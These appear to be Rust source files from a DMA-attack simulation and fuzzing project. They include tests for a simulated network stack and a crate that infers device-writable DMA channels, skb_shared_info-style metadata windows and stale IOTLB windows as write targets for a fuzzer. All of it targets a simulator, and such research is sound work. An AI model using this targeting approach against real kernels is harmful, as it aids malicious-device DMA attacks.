        assert_eq!(sh.destructor_arg(&mut ctx, &mem).unwrap(), 0, "case {case}");
        for (i, &(page, offset, size)) in frags.iter().enumerate() {
            assert_eq!(
                sh.frag(&mut ctx, &mem, i).unwrap(),
                Frag { page, offset, size },
                "case {case} frag {i}"
            );
        }
    }
}

#[test]
fn gro_reassembles_any_in_order_stream() {
    let mut meta = DetRng::new(0x45);
    for case in 0..CASES {
        let mut rng = meta.fork();
        let mut ctx = SimCtx::new();
        let mut mem = MemorySystem::new(&MemConfig::default());
        let mut gro = GroEngine::new();
        let mut seq = 0u32;
        let mut total = Vec::new();
        let nsegs = rng.range(1, 9) as usize;
        let seg_sizes: Vec<usize> = (0..nsegs).map(|_| rng.range(1, 199) as usize).collect();
        for (i, size) in seg_sizes.iter().enumerate() {
            let payload = vec![i as u8; *size];
            total.extend_from_slice(&payload);
            let p = Packet::tcp(1, 2, seq, payload);
            seq = seq.wrapping_add(*size as u32);
            let mut skb = netdev_alloc_skb(&mut ctx, &mut mem, 1600).unwrap();
            skb.put(&mut ctx, &mut mem, &p.to_wire()).unwrap();
            let out = gro.receive(&mut ctx, &mut mem, skb).unwrap();
            assert!(
                out.is_empty(),
                "case {case}: in-order stream must keep merging"
            );
        }
        let flushed = gro.flush_all();
        assert_eq!(flushed.len(), 1, "case {case}");
        assert_eq!(&flushed[0].0.payload, &total, "case {case}");
        // Frag count equals merged segments.
        let nfrags = flushed[0].1.shinfo().nr_frags(&mut ctx, &mem).unwrap() as usize;
        assert_eq!(nfrags, seg_sizes.len() - 1, "case {case}");
    }
}

#[test]
fn gro_never_merges_across_flows() {
    let mut meta = DetRng::new(0x46);
    for case in 0..CASES {
        let mut rng = meta.fork();
        let mut ctx = SimCtx::new();
        let mut mem = MemorySystem::new(&MemConfig::default());
        let mut gro = GroEngine::new();
        let mut delivered = 0usize;
        let mut seqs = [0u32; 4];
        let nflows = rng.range(2, 11) as usize;
        let flows: Vec<u32> = (0..nflows).map(|_| rng.below(4) as u32).collect();
        for f in &flows {
            let p = Packet::tcp(*f, 99, seqs[*f as usize], vec![1; 10]);
            seqs[*f as usize] += 10;
            let mut skb = netdev_alloc_skb(&mut ctx, &mut mem, 1600).unwrap();
            skb.put(&mut ctx, &mut mem, &p.to_wire()).unwrap();
            delivered += gro.receive(&mut ctx, &mut mem, skb).unwrap().len();
        }
        delivered += gro.flush_all().len();
        let distinct: std::collections::HashSet<u32> = flows.iter().copied().collect();
        assert_eq!(
            delivered,
            distinct.len(),
            "case {case}: one aggregate per flow"
        );
    }
}
