//! Property-based tests for the network substrate: wire-format
//! roundtrips, shared-info field isolation, skb payload integrity, and
//! GRO sequence reconstruction.

use dma_core::SimCtx;
use proptest::prelude::*;
use sim_mem::{MemConfig, MemorySystem};
use sim_net::gro::GroEngine;
use sim_net::packet::Packet;
use sim_net::shinfo::{Frag, MAX_FRAGS};
use sim_net::skb::netdev_alloc_skb;

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn packet_wire_roundtrip(
        src in any::<u32>(),
        dst in any::<u32>(),
        seq in any::<u32>(),
        payload in proptest::collection::vec(any::<u8>(), 0..1400),
        is_tcp in any::<bool>(),
    ) {
        let p = if is_tcp { Packet::tcp(src, dst, seq, payload) } else { Packet::udp(src, dst, payload) };
        prop_assert_eq!(Packet::from_wire(&p.to_wire()), Some(p));
    }

    #[test]
    fn from_wire_is_total(bytes in proptest::collection::vec(any::<u8>(), 0..200)) {
        let _ = Packet::from_wire(&bytes);
    }

    #[test]
    fn skb_payload_roundtrip(chunks in proptest::collection::vec(proptest::collection::vec(any::<u8>(), 1..100), 1..8)) {
        let mut ctx = SimCtx::new();
        let mut mem = MemorySystem::new(&MemConfig::default());
        let mut skb = netdev_alloc_skb(&mut ctx, &mut mem, 1600).unwrap();
        let mut expect = Vec::new();
        for c in &chunks {
            if skb.data_offset + skb.len + c.len() <= skb.buf_size {
                skb.put(&mut ctx, &mut mem, c).unwrap();
                expect.extend_from_slice(c);
            }
        }
        prop_assert_eq!(skb.payload(&mut ctx, &mem).unwrap(), expect);
    }

    #[test]
    fn shinfo_frag_slots_are_independent(
        frags in proptest::collection::vec((any::<u64>(), any::<u32>(), any::<u32>()), 1..MAX_FRAGS)
    ) {
        let mut ctx = SimCtx::new();
        let mut mem = MemorySystem::new(&MemConfig::default());
        let skb = netdev_alloc_skb(&mut ctx, &mut mem, 1600).unwrap();
        let sh = skb.shinfo();
        for (i, &(page, offset, size)) in frags.iter().enumerate() {
            sh.set_frag(&mut ctx, &mut mem, i, Frag { page, offset, size }).unwrap();
        }
        // destructor_arg (between the header fields and frags) untouched.
        prop_assert_eq!(sh.destructor_arg(&mut ctx, &mem).unwrap(), 0);
        for (i, &(page, offset, size)) in frags.iter().enumerate() {
            prop_assert_eq!(sh.frag(&mut ctx, &mem, i).unwrap(), Frag { page, offset, size });
        }
    }

    #[test]
    fn gro_reassembles_any_in_order_stream(
        seg_sizes in proptest::collection::vec(1usize..200, 1..10)
    ) {
        let mut ctx = SimCtx::new();
        let mut mem = MemorySystem::new(&MemConfig::default());
        let mut gro = GroEngine::new();
        let mut seq = 0u32;
        let mut total = Vec::new();
        for (i, size) in seg_sizes.iter().enumerate() {
            let payload = vec![i as u8; *size];
            total.extend_from_slice(&payload);
            let p = Packet::tcp(1, 2, seq, payload);
            seq = seq.wrapping_add(*size as u32);
            let mut skb = netdev_alloc_skb(&mut ctx, &mut mem, 1600).unwrap();
            skb.put(&mut ctx, &mut mem, &p.to_wire()).unwrap();
            let out = gro.receive(&mut ctx, &mut mem, skb).unwrap();
            prop_assert!(out.is_empty(), "in-order stream must keep merging");
        }
        let flushed = gro.flush_all();
        prop_assert_eq!(flushed.len(), 1);
        prop_assert_eq!(&flushed[0].0.payload, &total);
        // Frag count equals merged segments.
        let nfrags = flushed[0].1.shinfo().nr_frags(&mut ctx, &mem).unwrap() as usize;
        prop_assert_eq!(nfrags, seg_sizes.len() - 1);
    }

    #[test]
    fn gro_never_merges_across_flows(flows in proptest::collection::vec(0u32..4, 2..12)) {
        let mut ctx = SimCtx::new();
        let mut mem = MemorySystem::new(&MemConfig::default());
        let mut gro = GroEngine::new();
        let mut delivered = 0usize;
        let mut seqs = [0u32; 4];
        for f in &flows {
            let p = Packet::tcp(*f, 99, seqs[*f as usize], vec![1; 10]);
            seqs[*f as usize] += 10;
            let mut skb = netdev_alloc_skb(&mut ctx, &mut mem, 1600).unwrap();
            skb.put(&mut ctx, &mut mem, &p.to_wire()).unwrap();
            delivered += gro.receive(&mut ctx, &mut mem, skb).unwrap().len();
        }
        delivered += gro.flush_all().len();
        let distinct: std::collections::HashSet<u32> = flows.iter().copied().collect();
        prop_assert_eq!(delivered, distinct.len(), "one aggregate per flow");
    }
}
