//! The inferred artifacts: per-device DMA channels and concrete write
//! targets.
//!
//! A *channel* is a (device, map-site) aggregate classified by how the
//! device and the CPU used it over the observed trace. The shapes mirror
//! the taxonomy DICE recovers statically and DyMA-Fuzz recovers
//! dynamically: descriptor rings the device reads pointers from, payload
//! rings/buffers the device writes into, long-lived control blocks, and
//! to-device-only streams. A [`MetaBlock`] is the inferred OS-metadata
//! sub-window of a device-writable channel — the `skb_shared_info`
//! analogue — found as a CPU-write window that never overlaps the
//! device-write window.

use dma_core::jsonw::JsonWriter;
use dma_core::trace::DeviceId;
use dma_core::Iova;

/// What role a channel plays for the device.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum ChannelKind {
    /// The device reads pointers here and dereferences them shortly
    /// after (DICE base/pointer pattern).
    DescriptorRing,
    /// Device-writable with many instances live at once (an RX ring).
    PayloadRing,
    /// Device-writable and mapped for (almost) the whole trace — a
    /// command queue / used ring / completion queue.
    CtrlBlock,
    /// Device-writable, short-lived, few instances (a buffer pool).
    PayloadBuffer,
    /// Mapped to-device only; the device can read but never write.
    ReadonlyStream,
}

impl ChannelKind {
    /// Stable string used in JSON output and CI greps.
    pub fn name(self) -> &'static str {
        match self {
            ChannelKind::DescriptorRing => "descriptor-ring",
            ChannelKind::PayloadRing => "payload-ring",
            ChannelKind::CtrlBlock => "ctrl-block",
            ChannelKind::PayloadBuffer => "payload-buffer",
            ChannelKind::ReadonlyStream => "readonly-stream",
        }
    }
}

/// A CPU-written sub-range of a device-writable channel that the device
/// write window never touched: inferred OS metadata co-located with
/// payload (Figure 1 class (b) surface).
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct MetaBlock {
    /// CPU site that wrote the range.
    pub site: &'static str,
    /// Window start, as a byte offset from the mapping base.
    pub lo: usize,
    /// Window end (exclusive offset).
    pub hi: usize,
}

/// One inferred channel: the aggregate behaviour of every mapping made
/// at `site` for `device`.
#[derive(Clone, Debug)]
pub struct Channel {
    /// Owning device.
    pub device: DeviceId,
    /// The `dma_map` call site that created the mappings.
    pub site: &'static str,
    /// Inferred role.
    pub kind: ChannelKind,
    /// Total mappings observed at this site.
    pub maps: u64,
    /// Total unmaps observed.
    pub unmaps: u64,
    /// Peak number of simultaneously-live mappings (ring depth).
    pub slots: u64,
    /// Smallest mapping length seen.
    pub len_min: usize,
    /// Largest mapping length seen.
    pub len_max: usize,
    /// Device reads attributed to the channel.
    pub dev_reads: u64,
    /// Device writes attributed to the channel.
    pub dev_writes: u64,
    /// Device writes that were served by a stale IOTLB entry.
    pub stale_writes: u64,
    /// Pointer-follow hits: a device read here was followed by a device
    /// access to a *different* channel within the follow window.
    pub follow_hits: u64,
    /// `[lo, hi)` device-write offset window, when the device wrote.
    pub dev_window: Option<(usize, usize)>,
    /// Longest map→unmap lifetime in cycles (0 if never unmapped).
    pub lifetime_max: u64,
    /// Inferred metadata sub-windows (device-writable channels only).
    pub meta: Vec<MetaBlock>,
}

/// The deterministic result of inference: every channel of every device,
/// sorted by `(device, site)`.
#[derive(Clone, Debug, Default)]
pub struct ChannelMap {
    /// Trace events consumed to build the map.
    pub events: u64,
    /// Observed trace span in cycles (last − first event timestamp).
    pub span: u64,
    /// All channels, sorted by `(device, site)`.
    pub channels: Vec<Channel>,
}

impl ChannelMap {
    /// Channels belonging to `device`, in site order.
    pub fn for_device(&self, device: DeviceId) -> impl Iterator<Item = &Channel> {
        self.channels.iter().filter(move |c| c.device == device)
    }

    /// Looks a channel up by site (first match across devices).
    pub fn by_site(&self, site: &str) -> Option<&Channel> {
        self.channels.iter().find(|c| c.site == site)
    }

    /// Byte-deterministic JSON rendering. Two runs over the same seed
    /// must produce identical bytes; CI pins this.
    pub fn to_json(&self) -> String {
        let mut w = JsonWriter::new();
        w.obj(|w| {
            w.field_str("schema", "dma-infer.channel-map.v1");
            w.field_u64("events", self.events);
            w.field_u64("span_cycles", self.span);
            w.field("channels", |w| {
                w.arr(|w| {
                    for c in &self.channels {
                        w.elem(|w| {
                            w.obj(|w| {
                                w.field_u64("device", u64::from(c.device));
                                w.field_str("site", c.site);
                                w.field_str("kind", c.kind.name());
                                w.field_u64("maps", c.maps);
                                w.field_u64("unmaps", c.unmaps);
                                w.field_u64("slots", c.slots);
                                w.field_u64("len_min", c.len_min as u64);
                                w.field_u64("len_max", c.len_max as u64);
                                w.field_u64("dev_reads", c.dev_reads);
                                w.field_u64("dev_writes", c.dev_writes);
                                w.field_u64("stale_writes", c.stale_writes);
                                w.field_u64("follow_hits", c.follow_hits);
                                w.field("dev_window", |w| match c.dev_window {
                                    Some((lo, hi)) => w.obj(|w| {
                                        w.field_u64("lo", lo as u64);
                                        w.field_u64("hi", hi as u64);
                                    }),
                                    None => w.raw("null"),
                                });
                                w.field_u64("lifetime_max", c.lifetime_max);
                                w.field("meta", |w| {
                                    w.arr(|w| {
                                        for m in &c.meta {
                                            w.elem(|w| {
                                                w.obj(|w| {
                                                    w.field_str("site", m.site);
                                                    w.field_u64("lo", m.lo as u64);
                                                    w.field_u64("hi", m.hi as u64);
                                                });
                                            });
                                        }
                                    });
                                });
                            });
                        });
                    }
                });
            });
        });
        w.finish()
    }
}

/// A concrete, currently-mapped instance of a device-writable channel —
/// what the fuzzer's `channel_write` op aims at.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct WriteTarget {
    /// Owning device.
    pub device: DeviceId,
    /// Channel site the instance belongs to.
    pub site: &'static str,
    /// Mapping base IOVA.
    pub iova: Iova,
    /// Mapping length.
    pub len: usize,
    /// Interesting offset window start (metadata window when one was
    /// inferred, otherwise the device-write window, otherwise the whole
    /// mapping).
    pub lo: usize,
    /// Interesting offset window end (exclusive).
    pub hi: usize,
    /// `true` when the window comes from an inferred [`MetaBlock`].
    pub meta: bool,
    /// `true` when the mapping is unmapped but its IOTLB entry may
    /// still linger (deferred-invalidation staleness).
    pub stale: bool,
}

/// A device-writable channel plus its live (and lingering) instances,
/// ready for the mutation engine: `plan[channel].targets[slot]`.
#[derive(Clone, Debug)]
pub struct ChannelTargets {
    /// Owning device.
    pub device: DeviceId,
    /// Channel site.
    pub site: &'static str,
    /// Inferred role of the channel.
    pub kind: ChannelKind,
    /// Concrete aim points, sorted by `(stale, iova)`.
    pub targets: Vec<WriteTarget>,
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample() -> ChannelMap {
        ChannelMap {
            events: 10,
            span: 99,
            channels: vec![Channel {
                device: 1,
                site: "rx_map",
                kind: ChannelKind::PayloadRing,
                maps: 4,
                unmaps: 4,
                slots: 4,
                len_min: 2048,
                len_max: 2048,
                dev_reads: 0,
                dev_writes: 7,
                stale_writes: 1,
                follow_hits: 0,
                dev_window: Some((64, 128)),
                lifetime_max: 50,
                meta: vec![MetaBlock {
                    site: "init_meta",
                    lo: 1728,
                    hi: 2048,
                }],
            }],
        }
    }

    #[test]
    fn json_is_stable() {
        let m = sample();
        assert_eq!(m.to_json(), m.to_json());
        let j = m.to_json();
        assert!(j.starts_with(r#"{"schema":"dma-infer.channel-map.v1","events":10"#));
        assert!(j.contains(r#""kind":"payload-ring""#));
        assert!(j.contains(r#""dev_window":{"lo":64,"hi":128}"#));
        assert!(j.contains(r#""meta":[{"site":"init_meta","lo":1728,"hi":2048}]"#));
    }

    #[test]
    fn kind_names_are_pinned() {
        assert_eq!(ChannelKind::DescriptorRing.name(), "descriptor-ring");
        assert_eq!(ChannelKind::PayloadRing.name(), "payload-ring");
        assert_eq!(ChannelKind::CtrlBlock.name(), "ctrl-block");
        assert_eq!(ChannelKind::PayloadBuffer.name(), "payload-buffer");
        assert_eq!(ChannelKind::ReadonlyStream.name(), "readonly-stream");
    }

    #[test]
    fn lookup_helpers_find_channels() {
        let m = sample();
        assert_eq!(m.for_device(1).count(), 1);
        assert_eq!(m.for_device(2).count(), 0);
        assert!(m.by_site("rx_map").is_some());
        assert!(m.by_site("nope").is_none());
    }
}
