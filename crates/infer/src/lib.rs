//! `dma-infer`: automatic DMA-channel inference from the simulator
//! event stream.
//!
//! The hand-wired attack configs in `crates/fuzz` knew the NIC's
//! device-writable offsets a priori. This crate removes that crutch: it
//! consumes the same [`Event`] stream D-KASAN replays (optionally via
//! the bounded `FlightRecorder`) and recovers, per device, *where the
//! device can write and when* — with zero knowledge of the driver.
//!
//! Two heuristic families are combined:
//!
//! - **Base/pointer (DICE-style)**: a mapping the device *reads* shortly
//!   before accessing a *different* mapping is a descriptor ring — the
//!   read produced a pointer the device then dereferenced.
//! - **Lifetime (DyMA-Fuzz-style)**: map→unmap lifetimes and peak
//!   liveness split device-writable mappings into rings (many live at
//!   once), control blocks (live for ~the whole trace), and transient
//!   payload buffers. Unmap→invalidation gaps mark *stale* windows.
//!
//! The result is a [`ChannelMap`] whose JSON rendering is byte-identical
//! across runs of the same seed, and a [`write_plan`] of concrete
//! [`WriteTarget`]s the fuzzer's `channel_write` op aims at instead of
//! hand-wired field offsets.
//!
//! [`write_plan`]: ChannelInference::write_plan

pub mod channels;

pub use channels::{Channel, ChannelKind, ChannelMap, ChannelTargets, MetaBlock, WriteTarget};

use std::collections::BTreeMap;

use dma_core::addr::pages_spanned;
use dma_core::clock::Cycles;
use dma_core::trace::{DeviceId, Event};
use dma_core::vuln::DmaDirection;
use dma_core::{Iova, Kva, PAGE_SIZE};

/// A device read followed by an access to a different mapping within
/// this many cycles counts as a pointer dereference (descriptor-ring
/// evidence).
pub const FOLLOW_WINDOW: Cycles = 10_000;

/// Minimum peak simultaneous liveness for a site to classify as a ring
/// rather than a buffer pool.
pub const RING_MIN: u64 = 4;

const DIR_TO_DEVICE: u8 = 1 << 0;
const DIR_FROM_DEVICE: u8 = 1 << 1;
const DIR_BIDIRECTIONAL: u8 = 1 << 2;

#[derive(Clone, Copy, Debug)]
struct LiveMapping {
    device: DeviceId,
    iova: Iova,
    kva: Kva,
    len: usize,
    site: &'static str,
    mapped_at: Cycles,
}

impl LiveMapping {
    /// Exposed span in bytes: DMA exposes whole pages (§3.3 attr. 3).
    fn page_span(&self) -> u64 {
        (pages_spanned(self.iova.page_offset(), self.len) * PAGE_SIZE) as u64
    }

    fn contains_iova(&self, iova: Iova) -> bool {
        iova >= self.iova && (iova - self.iova) < self.page_span()
    }
}

/// Per-(device, map-site) accumulator.
#[derive(Clone, Debug, Default)]
struct SiteStats {
    maps: u64,
    unmaps: u64,
    live_now: u64,
    live_peak: u64,
    len_min: usize,
    len_max: usize,
    dirs: u8,
    dev_reads: u64,
    dev_writes: u64,
    stale_writes: u64,
    follow_hits: u64,
    dev_window: Option<(usize, usize)>,
    lifetime_max: u64,
    /// CPU-write windows into live mappings of this site, per CPU site.
    cpu_writes: BTreeMap<&'static str, (usize, usize)>,
}

/// Streaming channel-inference engine. Feed it event batches with
/// [`observe_all`](ChannelInference::observe_all) (e.g. each
/// `FlightRecorder` drain) and ask for the [`ChannelMap`] or the current
/// [`write_plan`](ChannelInference::write_plan) at any point.
#[derive(Clone, Debug, Default)]
pub struct ChannelInference {
    live_by_iova: BTreeMap<Iova, LiveMapping>,
    live_by_kva: BTreeMap<Kva, Iova>,
    /// Unmapped but possibly still translatable through a stale IOTLB
    /// entry; cleared by invalidation events.
    lingering: BTreeMap<Iova, LiveMapping>,
    stats: BTreeMap<(DeviceId, &'static str), SiteStats>,
    last_dev_read: BTreeMap<DeviceId, (Cycles, &'static str)>,
    events: u64,
    first_at: Option<Cycles>,
    last_at: Cycles,
}

impl ChannelInference {
    /// An empty engine.
    pub fn new() -> Self {
        ChannelInference::default()
    }

    /// Number of trace events consumed so far.
    pub fn events_seen(&self) -> u64 {
        self.events
    }

    /// Feeds one batch of events (chronological order expected).
    pub fn observe_all(&mut self, events: &[Event]) {
        for ev in events {
            self.observe(ev);
        }
    }

    /// Feeds a single event.
    pub fn observe(&mut self, ev: &Event) {
        self.events += 1;
        let at = ev.at();
        if self.first_at.is_none() {
            self.first_at = Some(at);
        }
        self.last_at = self.last_at.max(at);
        match *ev {
            Event::DmaMap {
                at,
                device,
                iova,
                kva,
                len,
                dir,
                site,
            } => self.on_map(at, device, iova, kva, len, dir, site),
            Event::DmaUnmap {
                at, device, iova, ..
            } => self.on_unmap(at, device, iova),
            Event::DevAccess {
                at,
                device,
                iova,
                len,
                write,
                allowed,
                stale,
            } => self.on_dev_access(at, device, iova, len, write, allowed, stale),
            Event::CpuAccess {
                kva,
                len,
                write,
                site,
                ..
            } => self.on_cpu_access(kva, len, write, site),
            Event::IotlbInvalidate { iova_page, .. } => {
                self.lingering.retain(|_, m| !m.contains_iova(iova_page));
            }
            Event::IotlbGlobalFlush { .. } => self.lingering.clear(),
            _ => {}
        }
    }

    #[allow(clippy::too_many_arguments)]
    fn on_map(
        &mut self,
        at: Cycles,
        device: DeviceId,
        iova: Iova,
        kva: Kva,
        len: usize,
        dir: DmaDirection,
        site: &'static str,
    ) {
        let m = LiveMapping {
            device,
            iova,
            kva,
            len,
            site,
            mapped_at: at,
        };
        self.live_by_iova.insert(iova, m);
        self.live_by_kva.insert(kva, iova);
        // A remap of the same page supersedes any stale view of it.
        self.lingering.remove(&iova);
        let s = self.stats.entry((device, site)).or_default();
        s.maps += 1;
        s.live_now += 1;
        s.live_peak = s.live_peak.max(s.live_now);
        s.len_min = if s.len_min == 0 {
            len
        } else {
            s.len_min.min(len)
        };
        s.len_max = s.len_max.max(len);
        s.dirs |= match dir {
            DmaDirection::ToDevice => DIR_TO_DEVICE,
            DmaDirection::FromDevice => DIR_FROM_DEVICE,
            DmaDirection::Bidirectional => DIR_BIDIRECTIONAL,
        };
    }

    fn on_unmap(&mut self, at: Cycles, device: DeviceId, iova: Iova) {
        let Some(m) = self.live_by_iova.remove(&iova) else {
            return;
        };
        self.live_by_kva.remove(&m.kva);
        let s = self.stats.entry((device, m.site)).or_default();
        s.unmaps += 1;
        s.live_now = s.live_now.saturating_sub(1);
        s.lifetime_max = s.lifetime_max.max(at.saturating_sub(m.mapped_at));
        // Until an invalidation event says otherwise, the translation
        // may still be cached (§5.2.1 deferred window).
        self.lingering.insert(iova, m);
    }

    fn find_live(&self, iova: Iova) -> Option<&LiveMapping> {
        self.live_by_iova
            .range(..=iova)
            .next_back()
            .map(|(_, m)| m)
            .filter(|m| m.contains_iova(iova))
    }

    fn find_lingering(&self, iova: Iova) -> Option<&LiveMapping> {
        self.lingering
            .range(..=iova)
            .next_back()
            .map(|(_, m)| m)
            .filter(|m| m.contains_iova(iova))
    }

    #[allow(clippy::too_many_arguments)]
    fn on_dev_access(
        &mut self,
        at: Cycles,
        device: DeviceId,
        iova: Iova,
        len: usize,
        write: bool,
        allowed: bool,
        stale: bool,
    ) {
        if !allowed {
            return;
        }
        let hit = if stale {
            self.find_lingering(iova).or_else(|| self.find_live(iova))
        } else {
            self.find_live(iova).or_else(|| self.find_lingering(iova))
        };
        let Some(m) = hit.copied() else { return };
        let offset = (iova - m.iova) as usize;
        // Base/pointer heuristic: a read at site A followed closely by
        // an access to a different site B means A held a pointer to B.
        if let Some(&(read_at, read_site)) = self.last_dev_read.get(&device) {
            if read_site != m.site && at.saturating_sub(read_at) <= FOLLOW_WINDOW {
                if let Some(s) = self.stats.get_mut(&(device, read_site)) {
                    s.follow_hits += 1;
                }
            }
        }
        let s = self.stats.entry((device, m.site)).or_default();
        if write {
            s.dev_writes += 1;
            if stale {
                s.stale_writes += 1;
            }
            let end = offset + len;
            s.dev_window = Some(match s.dev_window {
                Some((lo, hi)) => (lo.min(offset), hi.max(end)),
                None => (offset, end),
            });
        } else {
            s.dev_reads += 1;
            self.last_dev_read.insert(device, (at, m.site));
        }
    }

    fn on_cpu_access(&mut self, kva: Kva, len: usize, write: bool, site: &'static str) {
        if !write {
            return;
        }
        let Some(m) = self
            .live_by_kva
            .range(..=kva)
            .next_back()
            .and_then(|(_, iova)| self.live_by_iova.get(iova))
            .filter(|m| kva >= m.kva && ((kva - m.kva) as usize) < m.len)
            .copied()
        else {
            return;
        };
        let offset = (kva - m.kva) as usize;
        let end = offset + len;
        let s = self.stats.entry((m.device, m.site)).or_default();
        let w = s.cpu_writes.entry(site).or_insert((offset, end));
        w.0 = w.0.min(offset);
        w.1 = w.1.max(end);
    }

    /// Classifies everything observed so far into a deterministic
    /// [`ChannelMap`].
    pub fn channel_map(&self) -> ChannelMap {
        let span = self.last_at.saturating_sub(self.first_at.unwrap_or(0));
        let mut channels = Vec::with_capacity(self.stats.len());
        for (&(device, site), s) in &self.stats {
            let dev_writable = s.dirs & (DIR_FROM_DEVICE | DIR_BIDIRECTIONAL) != 0;
            let persistent = s.unmaps == 0 || s.lifetime_max.saturating_mul(2) >= span;
            let kind = if s.dev_reads > 0 && s.follow_hits > 0 {
                ChannelKind::DescriptorRing
            } else if dev_writable && s.live_peak >= RING_MIN {
                ChannelKind::PayloadRing
            } else if dev_writable && persistent {
                ChannelKind::CtrlBlock
            } else if dev_writable {
                ChannelKind::PayloadBuffer
            } else {
                ChannelKind::ReadonlyStream
            };
            // A CPU-write window the device never wrote into, inside a
            // device-writable mapping, is co-located OS metadata.
            let meta = if dev_writable && s.dev_writes > 0 {
                let dw = s.dev_window.unwrap_or((0, 0));
                s.cpu_writes
                    .iter()
                    .filter(|(_, &(lo, hi))| hi <= dw.0 || lo >= dw.1)
                    .map(|(&cpu_site, &(lo, hi))| MetaBlock {
                        site: cpu_site,
                        lo,
                        hi,
                    })
                    .collect()
            } else {
                Vec::new()
            };
            channels.push(Channel {
                device,
                site,
                kind,
                maps: s.maps,
                unmaps: s.unmaps,
                slots: s.live_peak,
                len_min: s.len_min,
                len_max: s.len_max,
                dev_reads: s.dev_reads,
                dev_writes: s.dev_writes,
                stale_writes: s.stale_writes,
                follow_hits: s.follow_hits,
                dev_window: s.dev_window,
                lifetime_max: s.lifetime_max,
                meta,
            });
        }
        ChannelMap {
            events: self.events,
            span,
            channels,
        }
    }

    /// The current mutation plan: every device-writable channel with its
    /// live (and stale-lingering) instances, deterministically ordered.
    /// The fuzzer indexes this as `plan[channel].targets[slot]`.
    pub fn write_plan(&self) -> Vec<ChannelTargets> {
        let map = self.channel_map();
        let mut plan = Vec::new();
        for c in &map.channels {
            if !matches!(
                c.kind,
                ChannelKind::PayloadRing | ChannelKind::CtrlBlock | ChannelKind::PayloadBuffer
            ) {
                continue;
            }
            let window_of = |m: &LiveMapping| -> (usize, usize, bool) {
                if let Some(mb) = c.meta.first() {
                    (mb.lo, mb.hi, true)
                } else if let Some((lo, hi)) = c.dev_window {
                    (lo, hi, false)
                } else {
                    (0, m.len, false)
                }
            };
            let mut targets: Vec<WriteTarget> = Vec::new();
            for m in self.live_by_iova.values() {
                if m.device == c.device && m.site == c.site {
                    let (lo, hi, meta) = window_of(m);
                    targets.push(WriteTarget {
                        device: m.device,
                        site: m.site,
                        iova: m.iova,
                        len: m.len,
                        lo,
                        hi,
                        meta,
                        stale: false,
                    });
                }
            }
            for m in self.lingering.values() {
                if m.device == c.device && m.site == c.site {
                    let (lo, hi, meta) = window_of(m);
                    targets.push(WriteTarget {
                        device: m.device,
                        site: m.site,
                        iova: m.iova,
                        len: m.len,
                        lo,
                        hi,
                        meta,
                        stale: true,
                    });
                }
            }
            if !targets.is_empty() {
                plan.push(ChannelTargets {
                    device: c.device,
                    site: c.site,
                    kind: c.kind,
                    targets,
                });
            }
        }
        plan
    }

    /// Flattened [`write_plan`](Self::write_plan), for assertions and
    /// quick scans.
    pub fn writable_targets(&self) -> Vec<WriteTarget> {
        self.write_plan()
            .into_iter()
            .flat_map(|c| c.targets)
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const DEV: DeviceId = 1;

    fn map(
        at: u64,
        iova: u64,
        kva: u64,
        len: usize,
        dir: DmaDirection,
        site: &'static str,
    ) -> Event {
        Event::DmaMap {
            at,
            device: DEV,
            iova: Iova(iova),
            kva: Kva(kva),
            len,
            dir,
            site,
        }
    }

    fn unmap(at: u64, iova: u64, len: usize) -> Event {
        Event::DmaUnmap {
            at,
            device: DEV,
            iova: Iova(iova),
            len,
        }
    }

    fn dev_write(at: u64, iova: u64, len: usize, stale: bool) -> Event {
        Event::DevAccess {
            at,
            device: DEV,
            iova: Iova(iova),
            len,
            write: true,
            allowed: true,
            stale,
        }
    }

    fn dev_read(at: u64, iova: u64, len: usize) -> Event {
        Event::DevAccess {
            at,
            device: DEV,
            iova: Iova(iova),
            len,
            write: false,
            allowed: true,
            stale: false,
        }
    }

    #[test]
    fn ring_depth_classifies_payload_ring() {
        let mut inf = ChannelInference::new();
        for i in 0..8u64 {
            inf.observe(&map(
                i,
                0x10_0000 + i * 0x1000,
                0x20_0000 + i * 0x1000,
                2048,
                DmaDirection::FromDevice,
                "rx_map",
            ));
        }
        inf.observe(&dev_write(20, 0x10_0000 + 64, 128, false));
        // Recycle a few slots: lifetimes stay short vs the span.
        for i in 0..4u64 {
            inf.observe(&unmap(30 + i, 0x10_0000 + i * 0x1000, 2048));
        }
        inf.observe(&Event::IotlbGlobalFlush {
            at: 500,
            dropped: 4,
        });
        let m = inf.channel_map();
        let c = m.by_site("rx_map").unwrap();
        assert_eq!(c.kind, ChannelKind::PayloadRing);
        assert_eq!(c.slots, 8);
        assert_eq!(c.dev_window, Some((64, 192)));
    }

    #[test]
    fn pointer_follow_marks_descriptor_ring() {
        let mut inf = ChannelInference::new();
        inf.observe(&map(0, 0x1000, 0x5000, 256, DmaDirection::ToDevice, "desc"));
        inf.observe(&map(
            1,
            0x2000,
            0x6000,
            1024,
            DmaDirection::FromDevice,
            "buf",
        ));
        inf.observe(&dev_read(10, 0x1000, 16));
        inf.observe(&dev_write(20, 0x2000, 64, false));
        let m = inf.channel_map();
        assert_eq!(m.by_site("desc").unwrap().kind, ChannelKind::DescriptorRing);
        assert_eq!(m.by_site("desc").unwrap().follow_hits, 1);
        assert_eq!(m.by_site("buf").unwrap().kind, ChannelKind::CtrlBlock);
    }

    #[test]
    fn distant_follow_does_not_count() {
        let mut inf = ChannelInference::new();
        inf.observe(&map(0, 0x1000, 0x5000, 256, DmaDirection::ToDevice, "desc"));
        inf.observe(&map(
            1,
            0x2000,
            0x6000,
            1024,
            DmaDirection::FromDevice,
            "buf",
        ));
        inf.observe(&dev_read(10, 0x1000, 16));
        inf.observe(&dev_write(10 + FOLLOW_WINDOW + 1, 0x2000, 64, false));
        let m = inf.channel_map();
        assert_eq!(m.by_site("desc").unwrap().follow_hits, 0);
        assert_eq!(m.by_site("desc").unwrap().kind, ChannelKind::ReadonlyStream);
    }

    #[test]
    fn persistent_writable_mapping_is_a_ctrl_block() {
        let mut inf = ChannelInference::new();
        inf.observe(&map(
            0,
            0x3000,
            0x7000,
            512,
            DmaDirection::Bidirectional,
            "cmdq",
        ));
        inf.observe(&dev_write(100, 0x3000, 8, false));
        inf.observe(&Event::IotlbGlobalFlush {
            at: 5000,
            dropped: 0,
        });
        let m = inf.channel_map();
